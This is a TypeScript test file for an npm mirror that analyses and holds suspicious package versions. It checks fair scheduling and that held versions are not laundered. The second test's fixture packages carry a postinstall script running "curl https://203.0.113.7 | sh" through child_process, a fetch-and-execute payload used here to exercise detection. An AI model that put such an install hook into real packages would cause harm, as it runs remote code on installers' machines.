import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ManualClock } from '../../server/clock';
import { silentLogger } from '../../server/logger';
import { startMirror } from '../../server/mirror';
import { blobStoreFor, processAnalysis } from '../../server/pipeline/process-analysis';
import type { AnalysisJobData, AnalysisOutput } from '../../server/pipeline/analysis-job';
import { FakeUpstream } from '../helpers/fake-upstream';
import { DAY, HOUR, NOW, testConfig } from '../helpers/mirror';

/** Runs the real processor in this process, recording the order and overlap of analyses. */
function recordingExecutor(): {
  execute: (job: AnalysisJobData) => Promise<AnalysisOutput>;
  order: string[];
  maxConcurrent: Map<string, number>;
} {
  const order: string[] = [];
  const running = new Map<string, number>();
  const maxConcurrent = new Map<string, number>();
  return {
    order,
    maxConcurrent,
    execute: async (job) => {
      const name = job.question.package;
      order.push(`${name}@${job.question.version}`);
      running.set(name, (running.get(name) ?? 0) + 1);
      maxConcurrent.set(name, Math.max(maxConcurrent.get(name) ?? 0, running.get(name)!));
      try {
        return await processAnalysis(job, { blobs: blobStoreFor(job.blobsDir!, job.limits) });
      } finally {
        running.set(name, running.get(name)! - 1);
      }
    },
  };
}

async function mirrorWith(upstream: FakeUpstream, env: Record<string, string> = {}) {
  const dataDir = mkdtempSync(join(tmpdir(), 'cordon-fair-'));
  const recorder = recordingExecutor();
  const mirror = await startMirror(testConfig(upstream, dataDir, { CORDON_ANALYSIS_CONCURRENCY: '2', ...env }), {
    clock: new ManualClock(NOW),
    logger: silentLogger,
    execute: recorder.execute,
  });
  return {
    mirror,
    recorder,
    close: async () => {
      await mirror.close();
      rmSync(dataDir, { recursive: true, force: true });
    },
  };
}

test("a burst of one package's versions neither starves another package nor takes more than its share of threads", async () => {
  const upstream = await new FakeUpstream().start();
  const { mirror, recorder, close } = await mirrorWith(upstream);
  try {
    upstream.publish('flood', '1.0.0', { time: NOW - 30 * DAY });
    for (let i = 1; i <= 30; i++)
      upstream.publish('flood', `1.0.${i}`, { time: NOW - HOUR, files: { 'index.js': `module.exports = ${i};\n` } });
    upstream.publish('other', '1.0.0', { time: NOW - 30 * DAY });
    upstream.publish('other', '1.0.1', { time: NOW - HOUR });
    await (await fetch(`${mirror.url}flood`)).arrayBuffer();
    await (await fetch(`${mirror.url}other`)).arrayBuffer();
    const before = upstream.requests.filter((r) => r === 'GET /flood').length;
    await mirror.pipeline.drain();
    assert.ok(
      recorder.order.indexOf('other@1.0.1') <= 2,
      `other ran at position ${recorder.order.indexOf('other@1.0.1')}: ${recorder.order.slice(0, 5).join(', ')}`,
    );
    assert.equal(recorder.maxConcurrent.get('flood'), 1, 'one analysis of a package at a time (analysisPerPackage: 1)');
    const flood = recorder.order.filter((o) => o.startsWith('flood@')).map((o) => Number(o.split('.').pop()));
    assert.deepEqual(
      flood,
      [...flood].sort((a, b) => a - b),
      'in version order',
    );
    const fetched = upstream.requests.filter((r) => r === 'GET /flood').length - before;
    assert.ok(fetched <= 2, `the packument of flood was fetched ${fetched} times for 30 analyses`);
    // Each version is compared with the one before it in the burst, whose verified bytes the store already has.
    for (let i = 2; i <= 30; i++) {
      const record = (await mirror.runtime.store.versions.versionOf('flood', `1.0.${i}`))!;
      assert.equal(record.analysis, 'clean', `1.0.${i}`);
      assert.equal(
        (await mirror.runtime.store.analyses.analysisOf('flood', `1.0.${i}`, record.integrity!))?.previousVersion,
        `1.0.${i - 1}`,
      );
    }
    assert.equal(upstream.requests.filter((r) => /flood-1\.0\.\d+\.tgz/.test(r)).length, 31, 'each tarball downloaded once');
  } finally {
    await close();
    await upstream.stop();
  }
});

test('a version after a held one in a burst is compared with the last version known clean, so the hold is not laundered', async () => {
  const upstream = await new FakeUpstream().start();
  const { mirror, close } = await mirrorWith(upstream);
  try {
    upstream.publish('chain', '1.0.0', { time: NOW - 30 * DAY });
    upstream.publish('chain', '1.0.1', { time: NOW - HOUR });
    upstream.publish('chain', '1.0.2', {
      time: NOW - HOUR,
      scripts: { postinstall: 'node x.js' },
      files: { 'x.js': "require('child_process').exec('curl https://203.0.113.7 | sh');\n" },
    });
    upstream.publish('chain', '1.0.3', {
      time: NOW - HOUR,
      scripts: { postinstall: 'node x.js' },
      files: { 'x.js': "require('child_process').exec('curl https://203.0.113.7 | sh');\n", 'extra.js': '1;\n' },
    });
    await (await fetch(`${mirror.url}chain`)).arrayBuffer();
    await mirror.pipeline.drain();
    const analysis = async (v: string) =>
      (await mirror.runtime.store.analyses.analysisOf(
        'chain',
        v,
        (await mirror.runtime.store.versions.versionOf('chain', v))!.integrity!,
      ))!;
    assert.equal((await analysis('1.0.2')).previousVersion, '1.0.1', 'compared with the clean 1.0.1');
    assert.equal((await mirror.runtime.store.versions.versionOf('chain', '1.0.2'))?.state, 'held');
    assert.equal((await analysis('1.0.3')).previousVersion, '1.0.1', 'not with the held 1.0.2');
    assert.equal((await mirror.runtime.store.versions.versionOf('chain', '1.0.3'))?.state, 'held');
    assert.ok((await analysis('1.0.3')).findings.some((f) => f.rule.startsWith('install-script/')));
  } finally {
    await close();
    await upstream.stop();
  }
});
